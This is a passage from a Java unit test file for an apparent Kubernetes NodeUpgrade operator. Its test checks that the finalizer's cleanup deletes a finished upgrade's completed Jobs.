                .satisfies(e -> assertThat(e.type()).isEqualTo("Warning"));
    }

    /**
     * Shape: any cluster. Actor: a person or GitOps tool deleting a finished NodeUpgrade. Its Jobs carry no owner
     * reference (the garbage collector would kill a running one in a foreground delete): the finalizer deletes
     * the finished ones itself.
     */
    @Test
    void deletingAFinishedUpgradeDeletesItsFinishedJobs() {
        create(UpgradeExecutor.Type.Script, workerOnly(W1));
        reconcileToEnd();
        assertThat(jobs.hasJob(W1)).isTrue();

        reconciler.cleanup(upgrade, null);

        assertThat(jobs.hasJob(W1)).isFalse();
    }

}
